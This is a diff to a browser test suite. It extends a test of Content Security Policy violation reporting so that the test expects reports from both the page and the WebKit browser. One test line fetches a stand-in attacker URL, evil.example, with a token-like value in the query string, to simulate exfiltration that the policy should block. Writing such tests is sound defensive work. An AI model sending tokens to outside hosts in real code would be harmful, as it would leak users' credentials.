@@ -97,12 +97,18 @@ test('a remote that throws while it renders is reported', async ({
   });
 });
 
-test('a violation of the policy is reported', async ({ expectedErrors, reported, webkit }) => {
+test('a violation of the policy is reported, by the page and by the browser itself', async ({
+  expectedErrors,
+  reported,
+  webkit,
+}) => {
   expectedErrors.push(
     /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
   );
   await reported.open();
   await reported.expectReport({ type: 'measure', name: 'login-screen' });
   await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
-  await reported.expectReport({ type: 'violation', directive: 'connect-src', blocked: 'other' });
+  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
+  await reported.expectReport({ ...violation, browser: SAFARI });
+  await reported.expectReport({ ...violation, message: 'reported by the browser' });
 });
